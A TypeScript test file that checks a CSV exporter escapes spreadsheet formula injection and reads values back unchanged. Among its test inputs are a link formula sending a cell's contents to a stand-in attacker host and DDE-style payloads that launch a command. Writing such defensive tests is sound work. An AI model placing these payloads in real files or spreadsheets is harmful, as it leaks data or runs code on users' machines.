import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ListRow } from '../../contract/list-row.ts';
import { readAttestationTokens } from '../../core/attestation-tokens.ts';
import { attestationTokensCsv, csvLine, fromCell, listCsv, toCell } from '../../core/list-csv.ts';
import { parseCsv } from '../../server/organisations/lists/csv.ts';
import { rejectedLine } from '../../server/organisations/lists/rejected-rows.ts';
import { fuzzed } from '../support/fuzzing.ts';

/** What a spreadsheet takes for a formula, or for the beginning of one (OWASP, CSV Injection). */
const RUNS = /^ *[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;

/**
 * The cells that a spreadsheet makes of a line. One that does not split at our comma knows none of our quotes either, but for
 * those at a cell's own beginning.
 */
function cellsOf(text: string, separator: string): string[] {
  if (separator === ',') return parsed(text);
  return text
    .split(/\r\n/)
    .flatMap((line) => line.split(separator))
    .map((cell) => cell.replace(/^"(.*?)"?$/s, '$1').replaceAll('""', '"'));
}

/** Fields of CSV by RFC 4180, read without our own reader. */
function parsed(text: string): string[] {
  return [...text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n|$)/g)].map(
    ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '',
  );
}

const formula = fc.stringMatching(/^['=+\-@\t\r\n,;|" \uff1d\uff0b\uff0d\uff20aA1()!]{0,12}$/);
const value = fc.oneof(formula, fc.string(), fc.string({ unit: 'binary' }));

describe('a cell', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?"&A1,"Meter")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+1-2',
    '-2+3',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '＝1+1',
    'Meter;=1+1',
    'Meter\t@SUM(1)',
    'a"=1+1',
    'a"; "=1+1',
    "'=1+1",
    "''=1+1",
    '=',
  ])('that a spreadsheet would run is text, and is read back: %j', (text) => {
    const line = csvLine(['acme', text, 'x']);
    for (const separator of [',', ';', '\t', '|'])
      for (const cell of cellsOf(line, separator))
        expect([separator, cell]).toEqual([separator, expect.not.stringMatching(RUNS)]);
    expect(parseCsv(line).lines[0]?.fields).toEqual(['acme', text, 'x']);
  });

  it.each([
    'Meter 3',
    "O'Neill",
    "the 'new' one",
    'a=b',
    'PO-1182',
    '1+1',
    "it's -1",
    'MFkwEwYHKoZIzj0CAQ+/=',
    '',
  ])('that runs nowhere is as it was: %j', (text) => {
    expect(toCell(text)).toBe(text);
    expect(fromCell(text)).toBe(text);
  });

  it('never runs and is always read back, whatever stands in it', () => {
    fc.assert(
      fc.property(fc.array(value, { minLength: 1, maxLength: 6 }), (fields) => {
        for (const field of fields) {
          expect(toCell(field)).not.toMatch(RUNS);
          expect(fromCell(toCell(field))).toBe(field);
        }
        const line = csvLine(['first', ...fields]);
        expect(parseCsv(line)).toEqual({
          lines: [{ line: 1, fields: ['first', ...fields] }],
          broken: undefined,
        });
        for (const cell of parsed(line)) expect(cell).not.toMatch(RUNS);
      }),
      fuzzed(40_000),
    );
  });
});

describe('no formula leaves', () => {
  const row: ListRow = {
    ...{ maker: 'acme', udid: 'acme-1', anchor: 'udid-only' },
    ...{
      model: '=HYPERLINK("http://evil.example/?"&A1,"Meter")',
      order: '@SUM(1+1)',
      aliases: ['+1-2', '-2+3'],
    },
  };

  it('in a list, whose aliases are cells of their own in some countries', () => {
    for (const separator of [',', ';'])
      for (const cell of cellsOf(listCsv([row]), separator)) expect(cell).not.toMatch(RUNS);
  });

  it('in the file of rejected rows', () => {
    const text = '=cmd|calc,acme,x';
    const line = rejectedLine({ line: 2, fault: { code: 'udid', detail: '=1' }, text });
    for (const cell of parsed(line)) expect(cell).not.toMatch(RUNS);
    expect(parseCsv(line).lines[0]?.fields).toEqual(['2', 'udid', '=1', text]);
  });

  it('in attestation tokens, which are read back', () => {
    const token = `-${'A'.repeat(30)}.${'B'.repeat(30)}`;
    const one = {
      ...{ imei: '352656100367872', uuid: '50363154-3931-44f0-8022-121b6401627d' },
      ...{ token, at: '2026-11-21T09:30:00.000Z' },
    };
    const text = attestationTokensCsv([one]);
    for (const cell of parsed(text)) expect(cell).not.toMatch(RUNS);
    expect(readAttestationTokens(text)).toEqual({ rows: [one], faults: [] });
  });
});
